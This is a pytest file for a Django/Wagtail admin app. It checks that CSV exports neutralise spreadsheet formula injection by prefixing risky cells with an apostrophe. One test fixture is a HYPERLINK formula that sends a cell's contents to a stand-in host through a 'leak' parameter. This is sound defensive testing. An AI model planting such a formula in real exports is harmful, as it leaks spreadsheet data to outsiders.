"""CSV exports write text that a spreadsheet would run as a formula (= + - @, tab, CR) as
plain text; numbers stay numbers. Every admin listing's CSV export goes through
common.exports (Wagtail's XLSX export already stores such cells as text)."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from common.admin_mixins import ScopedIndexView
from common.exports import neutralise_cell
from estates.models import Compound, Unit
from tests.factories import make_compound

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/x?leak="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+86 139", "'+86 139"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("开化街道", "开化街道"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_text_cells(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize(
    "value", [None, -5, Decimal("-12.50"), -0.5, True, datetime.date(2026, 3, 2)]
)
def test_non_text_cells_are_left_alone(value):
    assert neutralise_cell(value) is value


def export_rows(view, queryset) -> list[list[str]]:
    text = b"".join(view.stream_csv(queryset)).decode()
    return list(csv.reader(io.StringIO(text)))


def test_listing_csv_export_neutralises_cells(tree):
    compound = make_compound(region=tree.communities[0], name=FORMULA, units=0)
    Compound.objects.filter(pk=compound.pk).update(address="@开化路1号")
    view = ScopedIndexView(model=Compound, list_export=["name", "address", "is_red_property"])
    header, row = export_rows(view, Compound.objects.filter(pk=compound.pk))
    assert header == ["小区名称", "地址", "红色物业"]
    assert row == ["'" + FORMULA, "'@开化路1号", "False"]


def test_numbers_keep_their_sign(tree):
    unit = Unit.objects.filter(building__compound=tree.compounds[0]).first()
    Unit.objects.filter(pk=unit.pk).update(room="-101")
    view = ScopedIndexView(model=Unit, list_export=["room", "exclusive_area"])
    _header, row = export_rows(view, Unit.objects.filter(pk=unit.pk))
    assert row == ["'-101", str(unit.exclusive_area)]
